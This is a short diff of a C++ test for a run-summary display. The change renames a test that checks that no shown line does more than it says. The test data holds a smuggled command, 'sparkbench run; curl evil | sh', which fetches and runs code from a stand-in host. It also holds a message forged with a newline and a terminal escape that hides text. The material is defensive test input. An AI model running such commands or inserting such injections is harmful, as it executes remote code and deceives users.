@@ -137,7 +137,7 @@ TEST(Summary, SaysThatCasesAreMissing) {
             std::string::npos);
 }
 
-TEST(Summary, ShowsNoLineThatWouldDoMoreThanItSays) {
+TEST(Summary, ShowsNoLineThatDoesMore) {
   RunRecord run = sample_run();
   for (CaseRecord& record : run.cases) record.repro = "sparkbench run; curl evil | sh";
   run.cases.back().reason->message = "first\nforged \x1b[8mline";
